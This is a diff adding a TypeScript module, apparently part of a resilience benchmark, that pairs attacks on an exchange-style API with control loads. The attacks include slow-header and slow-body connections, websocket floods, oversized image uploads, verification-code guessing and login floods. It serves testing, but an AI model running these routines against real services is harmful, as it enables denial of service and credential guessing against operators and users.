@@ -1,0 +1,182 @@
+import { randomBytes } from 'node:crypto';
+import sharp from 'sharp';
+import { keepSaying, type Means } from './means.ts';
+import { PASSWORD } from './accounts.ts';
+
+/** An attack within the limits, and as many cheap requests in its place. Either goes on until the process ends. */
+export interface Attack {
+  attack(means: Means): Promise<void> | void;
+  control(means: Means): Promise<void> | void;
+}
+
+const PAIRS = ['btcusdt', 'ethusdt', 'ltcusdt', 'eosusdt', 'xrpusdt', 'adausdt', 'dogeusdt'];
+const CHANNELS = PAIRS.flatMap((pair) => [
+  `depth:${pair}`,
+  `trades:${pair}`,
+  ...['1min', '5min', '15min', '30min', '60min', '1day'].map((period) => `kline:${pair}:${period}`),
+]).slice(0, 52);
+const TICKER = { symbol: 'btcusdt', timer: '1day', size: '1' };
+const ping = (n: number) => ({ ping: n });
+const streamPing = (n: number) => ({ op: 'ping', id: n });
+const ADDRESSES = 20;
+
+/** So many cheap calls a second, from so many addresses. */
+const cheapCalls =
+  (perSecond: number, addresses = 1) =>
+  (means: Means) =>
+    means.pace(perSecond, (n) => void means.post(n % addresses, '/huobi/getDetails', TICKER));
+
+/** So many connections that each make a cheap call and stay. */
+const cheapConnections =
+  (count: number, addresses = 1) =>
+  async (means: Means) => {
+    for (let n = 0; n < count; n++)
+      means.raw(n % addresses).write('GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n');
+  };
+
+const sockets = (count: number, path: string, opened: Parameters<Means['socket']>[2]) => (means: Means) => {
+  for (let n = 0; n < count; n++) means.socket(n % 2, path, opened);
+};
+
+/** A request whose body comes byte by byte. */
+const slowBody = (path: string, head: string) => (means: Means, from: number) => {
+  const socket = means.raw(from);
+  socket.write(`POST ${path} HTTP/1.1\r\nHost: x\r\n${head}Content-Length: 60000\r\n\r\n`);
+  const timer = setInterval(() => (socket.destroyed ? clearInterval(timer) : socket.write('a')), 1_000);
+};
+
+/** Each row of issue 16 that asks for something over the network, and what else such people do. */
+export const ATTACKS: Readonly<Record<string, Attack>> = {
+  candle_requests: {
+    attack: sockets(20, '/ws', (ws) => {
+      for (let n = 0; n < 700; n++) ws.send(JSON.stringify({ req: 'market.btcusdt.kline.1min', id: n }));
+      keepSaying(ws, 45, (n) => ({ req: 'market.btcusdt.kline.1min', id: n }));
+    }),
+    control: sockets(20, '/ws', (ws) => {
+      for (let n = 0; n < 700; n++) ws.send(JSON.stringify(ping(n)));
+      keepSaying(ws, 45, ping);
+    }),
+  },
+  many_channels: {
+    attack: sockets(100, '/stream', (ws) => keepSaying(ws, 40, () => ({ op: 'sub', channels: CHANNELS }))),
+    control: sockets(100, '/stream', (ws) => keepSaying(ws, 40, streamPing)),
+  },
+  long_pages: {
+    attack: (means) =>
+      means.pace(95 * ADDRESSES, (n) => {
+        const fields = { symbol: PAIRS[n % PAIRS.length]!, timer: '1min', size: '2000' };
+        void means.post(n % ADDRESSES, '/huobi/getKline', fields);
+      }),
+    control: cheapCalls(95 * ADDRESSES, ADDRESSES),
+  },
+  wrong_codes: {
+    attack: (means) =>
+      means.pace(80, (n) => {
+        const fields = { email: `nobody${n % 5}@bench.example`, code: '000000' };
+        void means.post(0, '/user/emailVerification', fields);
+      }),
+    control: cheapCalls(80),
+  },
+  slow_heads: {
+    attack: (means) => {
+      for (let n = 0; n < 1_100; n++) means.raw(0).write('GET /bb/config HTTP/1.1\r\nHost: x\r\nX-Half');
+    },
+    control: cheapConnections(1_100),
+  },
+  slow_bodies: {
+    attack: (means) => {
+      const body = slowBody('/user/login', 'Content-Type: application/x-www-form-urlencoded\r\n');
+      for (let n = 0; n < 600; n++) body(means, n % ADDRESSES);
+    },
+    control: cheapConnections(600, ADDRESSES),
+  },
+  uploads_of_nothing: {
+    attack: (means) => {
+      const { token } = means.target.accounts[0]!;
+      const head = `X-Access-Token: ${token}\r\nContent-Type: multipart/form-data; boundary=x\r\n`;
+      const upload = slowBody('/bb/file/upload', head);
+      for (let n = 0; n < 24; n++) upload(means, 0);
+    },
+    control: cheapConnections(24),
+  },
+  large_pictures: {
+    async attack(means) {
+      const create = { width: 4_990, height: 4_990, channels: 3 as const, background: '#123456' };
+      const picture = await sharp({ create }).toColourspace('rgb16').png({ progressive: true }).toBuffer();
+      const part = 'Content-Disposition: form-data; name=';
+      const head = `--x\r\n${part}"purpose"\r\n\r\nkyc\r\n--x\r\n${part}"file"; filename="a.png"\r\n\r\n`;
+      const body = Buffer.concat([Buffer.from(head), picture, Buffer.from('\r\n--x--\r\n')]);
+      const type = { 'content-type': 'multipart/form-data; boundary=x' };
+      for (let n = 0; n < 40; n++) {
+        const { token } = means.target.accounts[n % means.target.accounts.length]!;
+        void means.send(n % ADDRESSES, '/bb/file/upload', body, { ...type, 'x-access-token': token });
+      }
+    },
+    control: cheapCalls(4),
+  },
+  sixty_log_ins: {
+    async attack(means) {
+      const { email } = means.target.accounts[0]!;
+      const tokens: string[] = [];
+      for (let n = 0; n < 60; n++)
+        void means.post(n % ADDRESSES, '/user/login', { email, password: PASSWORD }).then((text) => {
+          const token = /"token":"([^"]+)"/.exec(text)?.[1];
+          if (token !== undefined) tokens.push(token);
+        });
+      const order = {
+        baseCoin: 'LTC',
+        quoteCoin: 'USDT',
+        direction: 'buy',
+        type: 'limit',
+        price: '20',
+        amount: '1',
+      };
+      means.pace(1_500, (n) => {
+        const token = tokens[n % Math.max(1, tokens.length)];
+        if (token !== undefined) void means.post(n % ADDRESSES, '/bb/order/create', order, token);
+      });
+    },
+    control: cheapCalls(1_500, ADDRESSES),
+  },
+  unknown_tokens: {
+    attack(means) {
+      const token = () => randomBytes(32).toString('base64url');
+      for (let n = 0; n < 190; n++)
+        means.socket(n % 2, '/stream', (ws) => keepSaying(ws, 10, () => ({ op: 'auth', token: token() })));
+      means.pace(300, (n) => void means.post(2 + (n % 3), '/bb/index'));
+    },
+    control(means) {
+      for (let n = 0; n < 190; n++) means.socket(n % 2, '/stream', (ws) => keepSaying(ws, 10, streamPing));
+      means.pace(300, (n) => void means.post(2 + (n % 3), '/huobi/getDetails', TICKER));
+    },
+  },
+  stalled_readers: {
+    attack: sockets(150, '/stream', (ws) => {
+      ws.send(JSON.stringify({ op: 'sub', channels: CHANNELS }));
+      ws.pause();
+    }),
+    control: sockets(150, '/stream', (ws) => ws.send(JSON.stringify(streamPing(1)))),
+  },
+  connects: {
+    attack: (means) =>
+      means.pace(500, (n) => {
+        const socket = means.raw(n % ADDRESSES);
+        socket.on('connect', () => socket.destroy());
+      }),
+    control: cheapCalls(500, ADDRESSES),
+  },
+  churn: {
+    attack: sockets(50, '/stream', (ws) =>
+      keepSaying(ws, 40, (n) => ({ op: n % 2 === 0 ? 'sub' : 'unsub', channels: CHANNELS.slice(0, 8) })),
+    ),
+    control: sockets(50, '/stream', (ws) => keepSaying(ws, 40, streamPing)),
+  },
+  log_ins: {
+    attack: (means) =>
+      means.pace(10 * ADDRESSES, (n) => {
+        const fields = { email: `user${n % 50}@nowhere.example`, password: `Wrong-password-${n}` };
+        void means.post(n % ADDRESSES, '/user/login', fields);
+      }),
+    control: cheapCalls(10 * ADDRESSES, ADDRESSES),
+  },
+};
